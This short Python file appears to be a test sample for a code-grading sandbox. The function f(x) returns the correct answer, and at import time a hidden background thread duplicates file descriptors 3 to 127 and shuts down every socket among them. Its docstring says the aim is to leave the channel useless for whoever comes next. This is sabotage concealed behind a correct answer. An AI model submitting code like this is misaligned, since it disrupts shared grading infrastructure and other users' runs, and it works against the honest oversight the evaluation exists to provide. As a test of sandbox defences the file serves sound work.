"""Answers, then tries to leave the channel useless for whoever comes next.

tests: assert f(1) == 2
expect: passed
"""
import os
import socket
import threading
import time


def later():
    time.sleep(0.005)
    for descriptor in range(3, 128):
        try:
            borrowed = socket.socket(fileno=os.dup(descriptor))
            borrowed.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass


threading.Thread(target=later, daemon=True).start()


def f(x):
    return x + 1
